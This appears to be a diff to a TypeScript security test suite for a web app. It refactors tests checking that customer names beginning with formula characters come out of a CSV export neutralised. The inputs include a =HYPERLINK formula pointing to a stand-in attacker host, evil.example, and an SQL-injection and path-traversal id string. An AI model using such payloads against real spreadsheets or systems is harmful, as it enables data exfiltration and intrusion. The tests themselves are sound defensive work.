@@ -484,23 +484,33 @@ export const CASES: HostileCase[] = [
   },
 
   // --- formula cells in the customer export -----------------------------------------------------
-  {
-    class: "formula",
-    name: "names starting with =, +, -, @ (and tab/CR, trimmed on input) come out of the CSV export neutralised",
-    as: "zandiyehRep",
-    request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: `=HYPERLINK("http://evil.example/?${fx.stamp}","باز کنید")` }) }),
-    status: 302,
-    then: async (fx) => {
-      const names = [`+${fx.stamp}+1`, `-${fx.stamp}-1`, `@SUM(${fx.stamp})`, `\t=${fx.stamp}*2`, `\r=${fx.stamp}*3`];
-      for (const displayName of names) await registerAs(fx, displayName);
-      const response = await get(fx.api.zandiyehAdmin, "/customers/export.csv");
-      expect(response.status()).toBe(200);
-      const body = await response.text();
-      expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?${fx.stamp}"",""باز کنید"")"`);
-      for (const cell of [`'+${fx.stamp}+1`, `'-${fx.stamp}-1`, `'@SUM(${fx.stamp})`, `'=${fx.stamp}*2`, `'=${fx.stamp}*3`]) expect(body).toContain(`\r\n${cell},`);
-      for (const raw of [`\r\n=HYPERLINK`, `\r\n+${fx.stamp}`, `\r\n-${fx.stamp}`, `\r\n@SUM(${fx.stamp}`, `\r\n=${fx.stamp}`, `\t=${fx.stamp}`]) expect(body).not.toContain(raw);
-    },
-  },
+  // Each name is typed with its stamp so the row is found in the partner admin's full export; the
+  // cell must start with an apostrophe (text to a spreadsheet), and the raw formula never start a row.
+  ...(
+    [
+      ["=HYPERLINK(…)", (st: string) => `=HYPERLINK("http://evil.example/?${st}","باز کنید")`, (st: string) => `"'=HYPERLINK(""http://evil.example/?${st}"",""باز کنید"")"`],
+      ["+", (st: string) => `+${st}+1`, (st: string) => `'+${st}+1`],
+      ["-", (st: string) => `-${st}-1`, (st: string) => `'-${st}-1`],
+      ["@", (st: string) => `@SUM(${st})`, (st: string) => `'@SUM(${st})`],
+      ["tab (trimmed on input, so =)", (st: string) => `\t=${st}*2`, (st: string) => `'=${st}*2`],
+      ["carriage return (trimmed on input, so =)", (st: string) => `\r=${st}*3`, (st: string) => `'=${st}*3`],
+    ] as const
+  ).map(
+    ([prefix, typed, cell]): HostileCase => ({
+      class: "formula",
+      name: `a customer name starting with ${prefix} comes out of the CSV export neutralised`,
+      as: "zandiyehRep",
+      request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: typed(fx.stamp) }) }),
+      status: 302,
+      then: async (fx) => {
+        const response = await get(fx.api.zandiyehAdmin, "/customers/export.csv");
+        expect(response.status()).toBe(200);
+        const rows = (await response.text()).split("\r\n");
+        expect(rows.filter((r) => r.startsWith(`${cell(fx.stamp)},`))).toHaveLength(1);
+        expect(rows.filter((r) => /^["]?[=+\-@\t\r]/.test(r))).toEqual([]);
+      },
+    }),
+  ),
 
   // --- malformed and wrongly encoded CSV files on the import page -------------------------------
   ...(
@@ -607,7 +617,7 @@ export const CASES: HostileCase[] = [
       name: `malformed ${what} id (SQL, path tricks, 2,000 characters)`,
       as,
       request: () => ({ path: path(encodeURIComponent("1' or '1'='1") + "%2F..%2F" + "9".repeat(2000)) }),
-      status: [400, 404],
+      status: 404,
     },
   ]),
   {
@@ -720,9 +730,3 @@ export const CASES: HostileCase[] = [
     then: async (fx) => expect(await db().selectFrom("segments").select("id").where("name", "=", `csrf ${fx.stamp}`).execute()).toEqual([]),
   },
 ];
-
-/** Registers a customer named `displayName` as the Zandiyeh rep. */
-async function registerAs(fx: Fixtures, displayName: string) {
-  const response = await post(fx.api.zandiyehRep, "/customers/new", customerForm({ displayName }));
-  expect(response.status(), displayName).toBe(302);
-}
